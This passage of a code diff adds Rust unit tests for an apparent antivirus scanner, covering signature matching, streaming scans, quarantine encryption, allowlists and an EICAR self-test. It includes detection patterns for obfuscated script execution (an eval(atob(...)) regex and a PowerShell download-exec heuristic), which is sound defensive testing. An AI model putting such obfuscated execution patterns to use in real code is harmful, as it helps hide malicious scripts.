+        assert!(results[0].file_path.ends_with("update.ps1"));
+        assert_eq!(results[0].signature_id, "ScriptHeuristic.PowerShell.download-exec");
+    }
+
+    #[tokio::test]
+    async fn test_magic_bytes_override_extension_rules() {
+        let dir = tempfile::tempdir().unwrap();
+        let disguised = [b"\x7fELF\x02\x01\x01".as_slice(), b"disguised-payload"].concat();
+        let png = [b"\x89PNG\r\n\x1a\n".as_slice(), b"disguised-payload"].concat();
+        std::fs::write(dir.path().join("readme.txt"), &disguised).unwrap();
+        std::fs::write(dir.path().join("notes.txt"), b"disguised-payload").unwrap();
+        std::fs::write(dir.path().join("photo.png"), &png).unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![Signature {
+            id: "Test.Disguised".to_string(),
+            name: "Test.Disguised".to_string(),
+            threat_type: "Trojan".to_string(),
+            risk_level: "High".to_string(),
+            pattern: b"disguised-payload".to_vec(),
+            pattern_type: PatternType::ByteSequence,
+            target: "0".to_string(),
+            subplatform: None,
+        }])
+        .await
+        .unwrap();
+
+        let engine = ScannerEngine::new(db, ScanOptions {
+            exclude_extensions: vec!["txt".to_string()],
+            ..custom_scan_options(dir.path())
+        });
+        let mut results = engine.start_scan().await.unwrap();
+        results.sort_by(|a, b| a.file_path.cmp(&b.file_path));
+
+        // 文件头为图片的文件同样做特征码匹配
+        assert_eq!(results.len(), 2);
+        assert!(results[0].file_path.ends_with("photo.png"));
+        assert_eq!(results[0].file_info.file_kind, FileKind::Image);
+        assert!(results[1].file_path.ends_with("readme.txt"));
+        assert_eq!(results[1].file_info.file_kind, FileKind::Elf);
+        assert_eq!(engine.get_stats().get_files_scanned(), 2);
+    }
+
+    fn sig(id: &str, pattern: &[u8], pattern_type: PatternType) -> Signature {
+        Signature {
+            id: id.to_string(),
+            name: id.to_string(),
+            threat_type: "Trojan".to_string(),
+            risk_level: "High".to_string(),
+            pattern: pattern.to_vec(),
+            pattern_type,
+            target: "0".to_string(),
+            subplatform: None,
+        }
+    }
+
+    #[tokio::test]
+    async fn test_streaming_scan_across_chunk_boundaries() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = SignatureDatabase::new();
+        // 块大小 16 * 64 = 1024 字节，超过即走流式扫描
+        db.set_scan_buffer_size(16);
+
+        let mut boundary = vec![b'.'; 8 * 1024];
+        boundary[1018..1030].copy_from_slice(b"boundary-sig");
+        let boundary_path = dir.path().join("boundary.bin");
+        std::fs::write(&boundary_path, &boundary).unwrap();
+
+        let mut logical = vec![b'.'; 8 * 1024];
+        logical[100..105].copy_from_slice(b"alpha");
+        logical[6000..6004].copy_from_slice(b"beta");
+        let logical_path = dir.path().join("logical.bin");
+        std::fs::write(&logical_path, &logical).unwrap();
+
+        let whole = vec![b'x'; 4096];
+        let whole_path = dir.path().join("whole.bin");
+        std::fs::write(&whole_path, &whole).unwrap();
+
+        let md5 = openssl::hash::hash(openssl::hash::MessageDigest::md5(), &logical).unwrap().to_vec();
+        db.update_signatures(vec![
+            sig("Test.Boundary", b"boundary-sig", PatternType::ByteSequence),
+            sig("Test.Logical", b"Test.Logical;Engine:51-255;0&1;616c706861;62657461", PatternType::LogicalExpression),
+            sig(&content_hash(&whole), &whole, PatternType::Hash),
+        ])
+        .await
+        .unwrap();
+
+        assert_eq!(db.scan_file_sync(&boundary_path, FileKind::Unknown).await.unwrap().unwrap().id, "Test.Boundary");
+        assert_eq!(db.scan_file_sync(&logical_path, FileKind::Unknown).await.unwrap().unwrap().id, "Test.Logical");
+        assert_eq!(db.scan_file_sync(&whole_path, FileKind::Unknown).await.unwrap().unwrap().id, content_hash(&whole));
+
+        db.update_signatures(vec![sig("Test.Md5", &md5, PatternType::Hash)]).await.unwrap();
+        assert_eq!(db.scan_file_sync(&logical_path, FileKind::Unknown).await.unwrap().unwrap().id, "Test.Md5");
+    }
+
+    #[tokio::test]
+    async fn test_mmap_scan_matches_buffered_scan() {
+        let dir = tempfile::tempdir().unwrap();
+        let infected = dir.path().join("infected.bin");
+        let empty = dir.path().join("empty.bin");
+        std::fs::write(&infected, [vec![0u8; 4096], b"mapped-payload".to_vec()].concat()).unwrap();
+        std::fs::write(&empty, b"").unwrap();
+
+        let db = SignatureDatabase::new();
+        db.update_signatures(vec![sig("Test.Mapped", b"mapped-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+
+        db.set_use_mmap(true);
+        assert_eq!(db.scan_file_sync(&infected, FileKind::Unknown).await.unwrap().unwrap().id, "Test.Mapped");
+        assert_eq!(db.scan_file(&infected).await.unwrap().unwrap().id, "Test.Mapped");
+        // 空文件无法映射，回退到缓冲读取
+        assert!(db.scan_file_sync(&empty, FileKind::Unknown).await.unwrap().is_none());
+    }
+
+    #[tokio::test]
+    async fn test_scan_batch_uses_one_snapshot() {
+        let dir = tempfile::tempdir().unwrap();
+        let paths: Vec<PathBuf> = ["a.bin", "b.bin", "c.js", "missing.bin"]
+            .iter()
+            .map(|name| dir.path().join(name))
+            .collect();
+        std::fs::write(&paths[0], b"xx batch-payload xx").unwrap();
+        std::fs::write(&paths[1], b"clean").unwrap();
+        std::fs::write(&paths[2], b"eval(atob('batch-regex'))").unwrap();
+
+        let db = SignatureDatabase::new();
+        db.update_signatures(vec![
+            sig("Test.Batch", b"batch-payload", PatternType::ByteSequence),
+            sig("Test.BatchRegex", br"eval\(atob\('[a-z-]+'\)\)", PatternType::Regex),
+        ])
+        .await
+        .unwrap();
+
+        let results = db.scan_batch(&paths).await;
+        // 不存在的文件返回错误，不当作干净文件
+        assert!(results[3].is_err());
+        let ids: Vec<Option<String>> = results[..3].iter().map(|t| t.as_ref().unwrap().as_ref().map(|t| t.id.clone())).collect();
+        assert_eq!(ids, vec![Some("Test.Batch".to_string()), None, Some("Test.BatchRegex".to_string())]);
+
+        // 快照在取得后不受病毒库更新影响，新快照包含更新
+        let snapshot = db.snapshot();
+        assert!(Arc::ptr_eq(&snapshot, &db.snapshot()));
+        db.update_signatures(vec![sig("Test.Clean", b"clean", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        assert!(snapshot.scan_path(&paths[1], FileKind::Text).unwrap().is_none());
+        assert_eq!(db.snapshot().scan_path(&paths[1], FileKind::Text).unwrap().unwrap().id, "Test.Clean");
+        assert_eq!(db.scan_batch(&paths[1..2]).await[0].as_ref().unwrap().as_ref().unwrap().id, "Test.Clean");
+    }
+
+    #[tokio::test]
+    async fn test_byte_signatures_share_one_automaton() {
+        let db = SignatureDatabase::new();
+        let signatures = (0..500)
+            .map(|i| sig(&format!("Test.Many.{}", i), format!("many-pattern-{:04}", i).as_bytes(), PatternType::ByteSequence))
+            .collect();
+        db.update_signatures(signatures).await.unwrap();
+        assert_eq!(db.scan_bytes(b"prefix many-pattern-0321 suffix").await.unwrap().id, "Test.Many.321");
+        assert!(db.scan_bytes(b"many-pattern-9999").await.is_none());
+
+        // 删除签名后自动机随快照重建
+        assert_eq!(db.remove_signatures_by_prefix("Test.Many.").await, 500);
+        assert!(db.scan_bytes(b"prefix many-pattern-0321 suffix").await.is_none());
+    }
+
+    #[tokio::test]
+    async fn test_signature_targets_apply_to_every_entry_point() {
+        use std::io::Write;
+
+        let db = SignatureDatabase::new();
+        let mut pe_only = sig("Test.PeOnly", b"target-payload", PatternType::ByteSequence);
+        pe_only.target = "1".to_string();
+        db.update_signatures(vec![pe_only]).await.unwrap();
+
+        let pe = b"MZ\x90\x00 target-payload".to_vec();
+        assert_eq!(db.scan_bytes(&pe).await.unwrap().id, "Test.PeOnly");
+        assert!(db.scan_bytes(b"plain text target-payload").await.is_none());
+
+        let dir = tempfile::tempdir().unwrap();
+        let script = dir.path().join("run.sh");
+        std::fs::write(&script, b"#!/bin/sh\n# target-payload\n").unwrap();
+        assert!(db.scan_file_sync(&script, FileKind::Script).await.unwrap().is_none());
+        assert!(db.scan_file(&script).await.unwrap().is_none());
+
+        // 压缩包成员按成员自身的类型匹配签名目标
+        let mut zip_writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        zip_writer.start_file("notes.txt", zip::write::FileOptions::default()).unwrap();
+        zip_writer.write_all(b"plain text target-payload").unwrap();
+        zip_writer.start_file("setup.exe", zip::write::FileOptions::default()).unwrap();
+        zip_writer.write_all(&pe).unwrap();
+        let archive = zip_writer.finish().unwrap().into_inner();
+        let detections = ArchiveScanner::new(&db, &ArchiveConfig::default()).scan("bundle.zip", &archive).await;
+        assert_eq!(detections.len(), 1);
+        assert_eq!(detections[0].member, "setup.exe");
+    }
+
+    #[tokio::test]
+    async fn test_automaton_checks_every_literal_hit() {
+        let db = SignatureDatabase::new();
+        let mut pe_only = sig("Test.PeDecoy", b"decoy-header", PatternType::ByteSequence);
+        pe_only.target = "1".to_string();
+        let mut elf_only = sig("Test.ElfPayload", b"header-payload", PatternType::ByteSequence);
+        elf_only.target = "6".to_string();
+        db.update_signatures(vec![pe_only, elf_only]).await.unwrap();
+
+        // 两个特征码相互重叠，先出现的 PE 签名与 ELF 文件不符，不能挡住后面的 ELF 签名
+        let elf = b"\x7fELF decoy-header-payload".to_vec();
+        assert_eq!(db.scan_bytes(&elf).await.unwrap().id, "Test.ElfPayload");
+        let pe = b"MZ decoy-header-payload".to_vec();
+        assert_eq!(db.scan_bytes(&pe).await.unwrap().id, "Test.PeDecoy");
+        assert!(db.scan_bytes(b"text decoy-header-payload").await.is_none());
+    }
+
+    #[tokio::test(flavor = "current_thread")]
+    async fn test_snapshot_reads_do_not_block_on_updates() {
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Before", b"swap-before", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+
+        // 非异步线程直接读取快照，更新期间读到的总是完整的新旧版本之一
+        let reader = {
+            let db = Arc::clone(&db);
+            std::thread::spawn(move || {
+                for _ in 0..200 {
+                    let snapshot = db.snapshot();
+                    assert_eq!(snapshot.scan_bytes(b"swap-before", FileKind::Text).unwrap().id, "Test.Before");
+                    let after = snapshot.scan_bytes(b"swap-after-1 swap-after-2", FileKind::Text).map(|t| t.id);
+                    assert!(matches!(after.as_deref(), None | Some("Test.After1" | "Test.After2")));
+                }
+            })
+        };
+        for _ in 0..20 {
+            db.update_signatures(vec![
+                sig("Test.After1", b"swap-after-1", PatternType::ByteSequence),
+                sig("Test.After2", b"swap-after-2", PatternType::Regex),
+            ])
+            .await
+            .unwrap();
+        }
+        reader.join().unwrap();
+        assert_eq!(db.get_signature_count().await, 3);
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_cancelled_scan_returns_partial_results() {
+        let dir = tempfile::tempdir().unwrap();
+        for i in 0..50 {
+            std::fs::write(dir.path().join(format!("f{}.bin", i)), b"cancel-payload").unwrap();
+        }
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Cancel", b"cancel-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+
+        let engine = ScannerEngine::new(Arc::clone(&db), ScanOptions {
+            thread_count: 2,
+            ..custom_scan_options(dir.path())
+        });
+        let control = engine.scan_control();
+        assert!(control.cancel());
+        assert!(!control.cancel());
+
+        let results = engine.start_scan().await.unwrap();
+        assert!(engine.is_cancelled());
+        assert!(results.is_empty());
+        assert_eq!(engine.get_stats().get_files_scanned(), 0);
+
+        // 重置后同一句柄可用于下一次扫描
+        control.reset();
+        let mut engine = ScannerEngine::new(db, custom_scan_options(dir.path()));
+        engine.set_scan_control(control);
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 50);
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_paused_scan_resumes_without_rescanning() {
+        let dir = tempfile::tempdir().unwrap();
+        for i in 0..30 {
+            std::fs::write(dir.path().join(format!("f{}.bin", i)), b"pause-payload").unwrap();
+        }
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Pause", b"pause-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+
+        let engine = Arc::new(ScannerEngine::new(db, ScanOptions {
+            thread_count: 2,
+            ..custom_scan_options(dir.path())
+        }));
+        assert!(engine.pause());
+        assert!(!engine.pause());
+        assert_eq!(engine.state(), ScanState::Paused);
+
+        let scan = tokio::spawn({
+            let engine = Arc::clone(&engine);
+            async move { engine.start_scan().await }
+        });
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        assert!(!scan.is_finished());
+        assert_eq!(engine.get_stats().get_files_scanned(), 0);
+
+        assert!(engine.resume());
+        let results = scan.await.unwrap().unwrap();
+        assert_eq!(results.len(), 30);
+        assert_eq!(engine.get_stats().get_files_scanned(), 30);
+
+        // 已取消的扫描不能再暂停或恢复
+        assert!(engine.cancel());
+        assert!(!engine.pause());
+        assert!(!engine.resume());
+    }
+
+    #[tokio::test]
+    async fn test_resume_scan_from_checkpoint() {
+        let dir = tempfile::tempdir().unwrap();
+        let scan_dir = dir.path().join("data");
+        std::fs::create_dir(&scan_dir).unwrap();
+        std::fs::write(scan_dir.join("a.bin"), b"resume-payload").unwrap();
+        std::fs::write(scan_dir.join("b.bin"), b"resume-payload").unwrap();
+        std::fs::write(scan_dir.join("clean.bin"), b"clean").unwrap();
+        let checkpoint_path = dir.path().join("scan.checkpoint");
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Resume", b"resume-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+
+        // 被取消的扫描保留检查点
+        let mut engine = ScannerEngine::new(Arc::clone(&db), custom_scan_options(&scan_dir));
+        engine.enable_checkpoints(checkpoint_path.clone(), std::time::Duration::from_secs(60));
+        engine.cancel();
+        assert!(engine.start_scan().await.unwrap().is_empty());
+        let mut checkpoint = ScanCheckpoint::load(&checkpoint_path).unwrap();
+        assert!(checkpoint.completed.is_empty());
+
+        // 伪造 a.bin 已在上次扫描中完成，恢复后不应重新扫描它
+        let first = ScannerEngine::new(Arc::clone(&db), custom_scan_options(&scan_dir))
+            .start_scan()
+            .await
+            .unwrap();
+        let mut previous = first.into_iter().find(|r| r.file_path.ends_with("a.bin")).unwrap();
+        previous.signature_id = "Test.Previous".to_string();
+        checkpoint.completed.insert(previous.file_path.clone());
+        checkpoint.results = vec![previous];
+        checkpoint.files_scanned = 1;
+        checkpoint.threats_found = 1;
+        checkpoint.save(&checkpoint_path).unwrap();
+
+        let mut engine = ScannerEngine::from_checkpoint(Arc::clone(&db), ScanCheckpoint::load(&checkpoint_path).unwrap());
+        engine.enable_checkpoints(checkpoint_path.clone(), std::time::Duration::from_secs(60));
+        let results = engine.start_scan().await.unwrap();
+
+        assert_eq!(results.len(), 2);
+        assert!(results[0].file_path.ends_with("a.bin"));
+        assert_eq!(results[0].signature_id, "Test.Previous");
+        assert_eq!(results[1].signature_id, "Test.Resume");
+        assert_eq!(engine.get_stats().get_files_scanned(), 3);
+        assert_eq!(engine.get_stats().get_threats_found(), 2);
+        // 扫描完成后检查点被删除
+        assert!(!checkpoint_path.exists());
+    }
+
+    #[tokio::test]
+    async fn test_memory_budget_reservations() {
+        let budget = MemoryBudget::new(4096);
+        assert!(budget.reserve(8192).await.is_none());
+
+        let first = budget.reserve(3000).await.unwrap();
+        assert_eq!(budget.in_use(), 3072);
+        // 预算不足时等待，直到先前的预留被释放
+        let pending = tokio::time::timeout(std::time::Duration::from_millis(50), budget.reserve(2048)).await;
+        assert!(pending.is_err());
+        drop(first);
+        assert!(budget.reserve(2048).await.is_some());
+        assert_eq!(budget.in_use(), 0);
+
+        assert!(MemoryBudget::unlimited().reserve(u64::MAX).await.is_some());
+    }
+
+    #[tokio::test]
+    async fn test_memory_limit_still_scans_oversized_files() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("small.bin"), b"memory-payload").unwrap();
+        std::fs::write(dir.path().join("large.bin"), [b"memory-payload".to_vec(), vec![0u8; 3 * 1024 * 1024]].concat()).unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![
+            sig("Test.Memory", b"memory-payload", PatternType::ByteSequence),
+            sig("Test.Regex", b"never[0-9]+matches", PatternType::Regex),
+        ])
+        .await
+        .unwrap();
+        let clean = tempfile::NamedTempFile::new().unwrap();
+        std::fs::write(clean.path(), b"clean").unwrap();
+        assert!(db.scan_file_sync(clean.path(), FileKind::Unknown).await.unwrap().is_none());
+        assert!(db.get_cache_memory_usage() > 0);
+        db.evict_caches();
+        assert_eq!(db.get_cache_memory_usage(), 0);
+
+        // 启发式检测只读取预算内的前缀，超过 1MB 预算的文件仍然被扫描
+        let engine = ScannerEngine::new(Arc::clone(&db), ScanOptions {
+            memory_limit_mb: 1,
+            max_file_size: 16 * 1024 * 1024,
+            ..custom_scan_options(dir.path())
+        });
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 2);
+        assert!(results.iter().any(|r| r.file_path.ends_with("large.bin")));
+        assert_eq!(engine.get_stats().get_files_skipped(), 0);
+
+        // 关闭启发式检测后大文件按流式窗口预留内存
+        let engine = ScannerEngine::new(db, ScanOptions {
+            memory_limit_mb: 1,
+            max_file_size: 16 * 1024 * 1024,
+            heuristics: HeuristicsConfig { enabled: false, ..HeuristicsConfig::default() },
+            ..custom_scan_options(dir.path())
+        });
+        assert_eq!(engine.start_scan().await.unwrap().len(), 2);
+    }
+
+    #[tokio::test]
+    async fn test_read_throttle_limits_scan_rate() {
+        let dir = tempfile::tempdir().unwrap();
+        for i in 0..2 {
+            std::fs::write(dir.path().join(format!("f{}.bin", i)), vec![0u8; 768 * 1024]).unwrap();
+        }
+
+        let db = Arc::new(SignatureDatabase::new());
+        let engine = ScannerEngine::new(db, ScanOptions {
+            max_read_mb_per_s: 1,
+            heuristics: HeuristicsConfig { enabled: false, ..HeuristicsConfig::default() },
+            ..custom_scan_options(dir.path())
+        });
+
+        // 桶容量为一秒的配额，第二个文件需要等待约 0.5 秒
+        let start = std::time::Instant::now();
+        engine.start_scan().await.unwrap();
+        assert!(start.elapsed() >= std::time::Duration::from_millis(400));
+        assert_eq!(engine.get_stats().get_files_scanned(), 2);
+    }
+
+    #[tokio::test]
+    async fn test_max_duration_stops_scan_with_checkpoint() {
+        let dir = tempfile::tempdir().unwrap();
+        let scan_dir = dir.path().join("data");
+        std::fs::create_dir(&scan_dir).unwrap();
+        for i in 0..5 {
+            std::fs::write(scan_dir.join(format!("f{}.bin", i)), b"deadline").unwrap();
+        }
+        let checkpoint_path = dir.path().join("scan.checkpoint");
+
+        let mut engine = ScannerEngine::new(Arc::new(SignatureDatabase::new()), ScanOptions {
+            max_duration: Some(std::time::Duration::from_millis(50)),
+            ..custom_scan_options(&scan_dir)
+        });
+        engine.enable_checkpoints(checkpoint_path.clone(), std::time::Duration::from_secs(60));
+
+        // 暂停中的扫描在期限到达后同样会停止
+        engine.pause();
+        let results = engine.start_scan().await.unwrap();
+
+        assert!(results.is_empty());
+        assert!(engine.deadline_reached());
+        assert!(engine.is_cancelled());
+        let checkpoint = ScanCheckpoint::load(&checkpoint_path).unwrap();
+        assert_eq!(checkpoint.options.max_duration, Some(std::time::Duration::from_millis(50)));
+    }
+
+    #[tokio::test]
+    async fn test_progress_callback_reports_counts() {
+        let dir = tempfile::tempdir().unwrap();
+        for i in 0..20 {
+            std::fs::write(dir.path().join(format!("f{}.bin", i)), b"progress").unwrap();
+        }
+
+        let mut engine = ScannerEngine::new(Arc::new(SignatureDatabase::new()), custom_scan_options(dir.path()));
+        let updates = Arc::new(std::sync::Mutex::new(Vec::new()));
+        engine.set_progress_interval(std::time::Duration::from_millis(10));
+        engine.set_progress_callback({
+            let updates = Arc::clone(&updates);
+            move |progress| updates.lock().unwrap().push(progress.clone())
+        });
+        let engine = Arc::new(engine);
+
+        // 暂停期间遍历线程照常发现文件，回调应报告 0/20
+        engine.pause();
+        let scan = tokio::spawn({
+            let engine = Arc::clone(&engine);
+            async move { engine.start_scan().await }
+        });
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        engine.resume();
+        scan.await.unwrap().unwrap();
+
+        let updates = updates.lock().unwrap();
+        assert!(updates.iter().any(|p| p.files_done == 0 && p.files_total == 20 && !p.total_is_estimate));
+        let last = updates.last().unwrap();
+        assert_eq!(last.files_done, 20);
+        assert_eq!(last.files_total, 20);
+        assert_eq!(last.percent, 100.0);
+        assert!(last.current_path.is_none());
+    }
+
+    #[tokio::test]
+    async fn test_detection_actions() {
+        let dir = tempfile::tempdir().unwrap();
+        let scan_dir = dir.path().join("data");
+        let quarantine_dir = dir.path().join("quarantine");
+        std::fs::create_dir(&scan_dir).unwrap();
+        let infected = scan_dir.join("infected.bin");
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Action", b"action-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let scan = |action: DetectionAction, quarantine: Option<Arc<QuarantineManager>>| {
+            let mut engine = ScannerEngine::new(Arc::clone(&db), ScanOptions {
+                action,
+                ..custom_scan_options(&scan_dir)
+            });
+            if let Some(quarantine) = quarantine {
+                engine.set_quarantine_manager(quarantine);
+            }
+            engine
+        };
+
+        // 未配置隔离区时文件保持原样
+        std::fs::write(&infected, b"action-payload").unwrap();
+        let results = scan(DetectionAction::Quarantine, None).start_scan().await.unwrap();
+        assert_eq!(results[0].action_taken.as_deref(), Some("quarantine_failed"));
+        assert!(infected.exists());
+
+        let quarantine = Arc::new(QuarantineManager::new(quarantine_dir.clone(), None));
+        let results = scan(DetectionAction::Quarantine, Some(quarantine)).start_scan().await.unwrap();
+        assert_eq!(results[0].action_taken.as_deref(), Some("quarantined"));
+        assert!(!infected.exists());
+        let entries = QuarantineManager::new(quarantine_dir.clone(), None).list().unwrap();
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].original_path.as_deref(), Some(infected.as_path()));
+
+        std::fs::write(&infected, b"action-payload").unwrap();
+        let dry_run = ScannerEngine::new(Arc::clone(&db), ScanOptions {
+            action: DetectionAction::Delete,
+            dry_run: true,
+            ..custom_scan_options(&scan_dir)
+        });
+        let results = dry_run.start_scan().await.unwrap();
+        assert_eq!(results[0].action_taken.as_deref(), Some("would_delete"));
+        assert!(infected.exists());
+
+        let results = scan(DetectionAction::Delete, None).start_scan().await.unwrap();
+        assert_eq!(results[0].action_taken.as_deref(), Some("deleted"));
+        assert!(!infected.exists());
+
+        std::fs::write(&infected, b"action-payload").unwrap();
+        let results = scan(DetectionAction::Report, None).start_scan().await.unwrap();
+        assert!(results[0].action_taken.is_none());
+        assert!(infected.exists());
+    }
+
+    #[tokio::test]
+    async fn test_auto_quarantine_high_risk_with_encryption() {
+        let dir = tempfile::tempdir().unwrap();
+        let scan_dir = dir.path().join("data");
+        std::fs::create_dir(&scan_dir).unwrap();
+        std::fs::write(scan_dir.join("high.bin"), b"high-risk-payload").unwrap();
+        std::fs::write(scan_dir.join("low.bin"), b"low-risk-payload").unwrap();
+        let key_file = dir.path().join("quarantine.key");
+        std::fs::write(&key_file, hex::encode([7u8; 32])).unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        let mut low = sig("Test.Low", b"low-risk-payload", PatternType::ByteSequence);
+        low.risk_level = "Low".to_string();
+        db.update_signatures(vec![sig("Test.High", b"high-risk-payload", PatternType::ByteSequence), low])
+            .await
+            .unwrap();
+
+        let security = crate::config::SecurityConfig {
+            run_as_user: None,
+            database_encryption: false,
+            audit_log_enabled: false,
+            quarantine_dir: dir.path().join("quarantine"),
+            quarantine_key_file: Some(key_file),
+            auto_quarantine: crate::config::AutoQuarantineConfig {
+                enabled: true,
+                min_risk_level: "high".to_string(),
+            },
+        };
+        let quarantine = Arc::new(QuarantineManager::from_config(&security).unwrap());
+        assert!(quarantine.is_encrypted());
+
+        let mut engine = ScannerEngine::new(db, ScanOptions {
+            auto_quarantine_min_risk: security.auto_quarantine.min_risk(),
+            ..custom_scan_options(&scan_dir)
+        });
+        engine.set_quarantine_manager(Arc::clone(&quarantine));
+        let results = engine.start_scan().await.unwrap();
+
+        assert_eq!(results.len(), 2);
+        assert_eq!(results[0].signature_id, "Test.High");
+        assert_eq!(results[0].action_taken.as_deref(), Some("quarantined"));
+        assert!(results[1].action_taken.is_none());
+        assert!(!scan_dir.join("high.bin").exists());
+        assert!(scan_dir.join("low.bin").exists());
+
+        // 隔离文件为 随机数 || 密文 || 认证标签，不含明文
+        let entries = quarantine.list().unwrap();
+        assert_eq!(entries.len(), 1);
+        assert!(entries[0].encrypted);
+        let content = std::fs::read(quarantine.path(&entries[0])).unwrap();
+        assert_eq!(content.len(), b"high-risk-payload".len() + 28);
+        assert!(!content.windows(8).any(|w| w == b"high-ris"));
+
+        // 恢复时解密并还原到原位置，随后从隔离区删除
+        let (entry, restored) = quarantine.restore(&entries[0].id, None, false).unwrap();
+        assert_eq!(restored, scan_dir.join("high.bin"));
+        assert_eq!(entry.size, b"high-risk-payload".len() as u64);
+        assert_eq!(std::fs::read(&restored).unwrap(), b"high-risk-payload");
+        assert!(quarantine.list().unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_allowlist_suppresses_detections() {
+        let dir = tempfile::tempdir().unwrap();
+        let scan_dir = dir.path().join("data");
+        let quarantine_dir = dir.path().join("quarantine");
+        std::fs::create_dir_all(scan_dir.join("trusted")).unwrap();
+        std::fs::write(scan_dir.join("trusted/tool.bin"), b"allow-payload").unwrap();
+        std::fs::write(scan_dir.join("known.bin"), b"allow-payload known").unwrap();
+        std::fs::write(scan_dir.join("other.bin"), b"allow-payload other").unwrap();
+        let known_hash = crate::utils::get_file_digests(&scan_dir.join("known.bin")).unwrap().sha256;
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Allow", b"allow-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+
+        let allowlist = Arc::new(Allowlist::from_config(&AllowlistConfig {
+            sha256: vec![known_hash.to_uppercase()],
+            paths: vec!["**/trusted/*.bin".to_string()],
+        }).unwrap());
+        assert_eq!(
+            allowlist.check(&scan_dir.join("trusted/tool.bin")),
+            Some(AllowReason::Path("**/trusted/*.bin".to_string()))
+        );
+        assert_eq!(allowlist.check(&scan_dir.join("known.bin")), Some(AllowReason::Sha256(known_hash.clone())));
+
+        let mut engine = ScannerEngine::new(Arc::clone(&db), ScanOptions {
+            action: DetectionAction::Quarantine,
+            ..custom_scan_options(&scan_dir)
+        });
+        engine.set_quarantine_manager(Arc::new(QuarantineManager::new(quarantine_dir.clone(), None)));
+        engine.set_allowlist(Arc::clone(&allowlist));
+        let results = engine.start_scan().await.unwrap();
+
+        assert_eq!(results.len(), 1);
+        assert!(results[0].file_path.ends_with("other.bin"));
+        assert_eq!(engine.get_stats().threats_found.load(std::sync::atomic::Ordering::Relaxed), 1);
+        assert!(scan_dir.join("trusted/tool.bin").exists());
+        assert!(scan_dir.join("known.bin").exists());
+
+        // 运行期间移除条目后立即恢复检测
+        assert!(allowlist.remove_hash(&known_hash));
+        assert!(allowlist.remove_path("**/trusted/*.bin").unwrap());
+        assert!(allowlist.is_empty());
+        let mut engine = ScannerEngine::new(db, custom_scan_options(&scan_dir));
+        engine.set_allowlist(Arc::clone(&allowlist));
+        assert_eq!(engine.start_scan().await.unwrap().len(), 2);
+    }
+
+    #[test]
+    fn test_allowlist_entry_validation() {
+        let allowlist = Allowlist::new();
+        assert!(allowlist.add_hash("not-a-hash").is_err());
+        assert!(allowlist.add_hash(&"g".repeat(64)).is_err());
+        assert!(allowlist.add_hash(&"AB".repeat(32)).unwrap());
+        assert!(!allowlist.add_hash(&"ab".repeat(32)).unwrap());
+        assert_eq!(allowlist.hashes(), vec!["ab".repeat(32)]);
+
+        assert!(allowlist.add_path("/opt/vendor/**").unwrap());
+        assert!(!allowlist.add_path("/opt/vendor/**").unwrap());
+        assert!(allowlist.add_path("[").is_err());
+        assert_eq!(allowlist.path_patterns(), vec!["/opt/vendor/**".to_string()]);
+        assert!(!allowlist.remove_path("/tmp/**").unwrap());
+    }
+
+    #[tokio::test]
+    async fn test_builtin_eicar_signature() {
+        let eicar = eicar_test_string();
+        assert_eq!(eicar.len(), 68);
+        assert!(eicar.starts_with(b"X5O!P%@AP[4\\PZX54"));
+
+        let db = SignatureDatabase::new();
+        assert!(db.scan_bytes(&eicar).await.is_none());
+        db.load_builtin_signatures().await.unwrap();
+        db.load_builtin_signatures().await.unwrap();
+        assert_eq!(db.get_signature_count().await, 1);
+        assert_eq!(db.scan_bytes(&eicar).await.unwrap().id, EICAR_SIGNATURE_ID);
+    }
+
+    #[tokio::test]
+    async fn test_selftest_detects_and_quarantines_eicar() {
+        let dir = tempfile::tempdir().unwrap();
+        let quarantine_dir = dir.path().join("quarantine");
+        let quarantine = QuarantineManager::new(quarantine_dir.clone(), Some(vec![3u8; 32]));
+
+        let report = run_selftest(Arc::new(SignatureDatabase::new()), custom_scan_options(dir.path()), &quarantine)
+            .await
+            .unwrap();
+        assert!(report.passed(), "{:?}", report);
+        let names: Vec<&str> = report.checks.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["检测", "隔离"]);
+        assert!(QuarantineManager::new(quarantine_dir, None).list().unwrap().is_empty());
+    }
+
+    fn zlib(data: &[u8]) -> Vec<u8> {
+        use std::io::Write;
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(data).unwrap();
+        encoder.finish().unwrap()
+    }
+
+    fn pdf_document(objects: &[(u32, Vec<u8>)]) -> Vec<u8> {
+        let mut pdf = b"%PDF-1.7\n".to_vec();
+        for (id, body) in objects {
+            pdf.extend_from_slice(format!("{} 0 obj\n", id).as_bytes());
+            pdf.extend_from_slice(body);
